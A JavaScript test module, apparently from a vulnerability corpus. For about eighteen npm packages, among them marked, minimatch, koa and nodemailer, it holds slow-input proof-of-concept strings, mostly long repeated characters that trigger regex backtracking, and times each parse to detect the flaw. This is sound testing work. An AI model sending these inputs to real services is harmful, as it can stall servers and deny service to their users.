/**
 * Further real holes in npm packages: inputs that keep the event loop busy for far too long.
 *
 * In the form of the shared corpus: `setup(library, require)` keeps what an application keeps, `poc(context)` tries the hole on exactly that.
 */
"use strict";
const _http = require("node:http");

const slow = (action, ms = 150) => {
  const start = process.hrtime.bigint();
  try {
    action();
  } catch {
    // A refusal of the input is an answer too; only the time counts.
  }
  const took = Number(process.hrtime.bigint() - start) / 1e6;
  return { vuln: took > ms, info: `${took.toFixed(1)}ms` };
};

module.exports = {
  "axios-trim": {
    setup: (_library, load) => ({ trim: load("x-axios-trim/lib/utils").trim }),
    poc: ({ trim }) => slow(() => trim(`a${" ".repeat(60000)}b`)),
  },
  marked: {
    setup: (library) => ({ parse: library.parse }),
    poc: ({ parse }) => slow(() => parse(`[x]:${" ".repeat(1000)}x ${" ".repeat(1000)}x`), 300),
  },
  "ansi-regex": {
    setup: (library) => ({ make: library }),
    poc: ({ make }) => slow(() => "\u001B[".concat(";".repeat(8000)).replace(make(), "")),
  },
  "ansi-regex-esm": {
    esm: 1,
    setup: (library) => ({ make: library.default }),
    poc: ({ make }) => slow(() => "\u001B[".concat(";".repeat(8000)).replace(make(), "")),
  },
  "glob-parent": {
    setup: (library) => ({ parent: library }),
    poc: ({ parent }) => slow(() => parent(`{${"/".repeat(1200)}`)),
  },
  "path-parse": {
    setup: (library) => ({ posix: library.posix, parse: library }),
    poc: ({ posix }) => slow(() => posix(`${"/".repeat(60000)}x`.concat("\n/"))),
  },
  "color-string": {
    setup: (library) => ({ hwb: library.get.hwb, get: library.get }),
    poc: ({ get }) => slow(() => get(`hwb(${"1".repeat(60000)}`)),
  },
  minimatch: {
    setup: (library) => ({ match: library, expand: library.braceExpand }),
    poc: ({ expand }) => slow(() => expand(`{${"{".repeat(0)}${"{a".repeat(0)}${"{".repeat(50000)}\n`)),
  },
  ssri: {
    setup: (library) => ({ parse: library.parse }),
    poc: ({ parse }) => slow(() => parse(`sha512-${"A".repeat(44)}${"?".repeat(26)}\u00e9`, { strict: true })),
  },
  luxon: {
    setup: (library) => ({ DateTime: library.DateTime }),
    poc: ({ DateTime }) => slow(() => DateTime.fromRFC2822(`${"(".repeat(40000)}`)),
  },
  "http-cache-semantics": {
    setup: (library) => ({ Policy: library }),
    poc: ({ Policy }) =>
      slow(() => new Policy({ headers: {} }, { headers: { "cache-control": `a${" ".repeat(25000)}b` } })),
  },
  "brace-expansion": {
    setup: (library) => ({ expand: library }),
    poc: ({ expand }) => slow(() => expand(`{a}${",".repeat(60000)}\u0000`)),
  },
  koa: {
    setup: (library) => ({ app: Object.assign(new library(), { proxy: true }) }),
    poc: ({ app }) => {
      const request = Object.assign(Object.create(app.request), {
        app,
        req: { headers: { "x-forwarded-proto": `a${" ".repeat(60000)}b` }, socket: {} },
      });
      return slow(() => request.protocol);
    },
  },
  cookiejar: {
    setup: (library) => ({ Cookie: library.Cookie, cookie: new library.Cookie("a=b") }),
    poc: ({ cookie, Cookie }) =>
      slow(() => {
        cookie.parse(`a${" ".repeat(60000)}`);
        Cookie.parse?.("x");
      }),
  },
  "markdown-it": {
    setup: (library) => ({ md: library() }),
    poc: ({ md }) => slow(() => md.render(`x ${" ".repeat(40000)} x  \nx`)),
  },
  "octokit-endpoint": {
    setup: (library) => ({ endpoint: library.endpoint, parse: library.endpoint.parse }),
    poc: ({ parse }) =>
      slow(() =>
        parse({
          method: "POST",
          url: "/graphql",
          baseUrl: "https://api.github.com",
          headers: { accept: `${"A".repeat(16000)}-`, "user-agent": "x" },
          mediaType: { previews: ["x"], format: "y" },
        }),
      ),
  },
  "octokit-endpoint-esm": {
    esm: 1,
    setup: (library) => ({ parse: library.endpoint.parse }),
    poc: (context) => module.exports["octokit-endpoint"].poc(context),
  },
  nodemailer: {
    setup: (library, load) => ({
      transport: library.createTransport({ streamTransport: true, attachDataUrls: true }),
      shared: load("x-nodemailer/lib/shared"),
    }),
    poc: async ({ transport }) => {
      const start = process.hrtime.bigint();
      await transport
        .sendMail({ to: "a@example.com", html: `<img src="data:image/png;${";".repeat(20000)}"`, text: "x" })
        .catch(() => undefined);
      const took = Number(process.hrtime.bigint() - start) / 1e6;
      return { vuln: took > 300, info: `${took}ms` };
    },
  },
};
